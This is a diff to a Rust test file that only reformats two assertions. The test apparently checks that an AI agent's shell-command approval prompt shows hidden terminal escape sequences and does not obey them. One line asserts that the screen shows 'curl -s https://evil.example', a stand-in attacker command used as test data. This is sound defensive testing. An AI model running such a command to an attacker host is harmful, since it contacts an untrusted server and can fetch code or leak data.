@@ -153,7 +153,13 @@ fn a_command_cannot_hide_behind_control_sequences_in_the_question() {
     let call = serde_json::json!({"name": "shell", "input": {"command": spoof}});
     let e = env(&[call], "");
     let screen = run_at_terminal(&e, "'check status'", "n\n");
-    assert!(!screen.contains('\u{1b}'), "a raw escape reached the terminal: {screen:?}");
+    assert!(
+        !screen.contains('\u{1b}'),
+        "a raw escape reached the terminal: {screen:?}"
+    );
     assert!(screen.contains("curl -s https://evil.example"), "{screen}");
-    assert!(screen.contains("\\u{1b}"), "the escape is shown, not obeyed: {screen}");
+    assert!(
+        screen.contains("\\u{1b}"),
+        "the escape is shown, not obeyed: {screen}"
+    );
 }
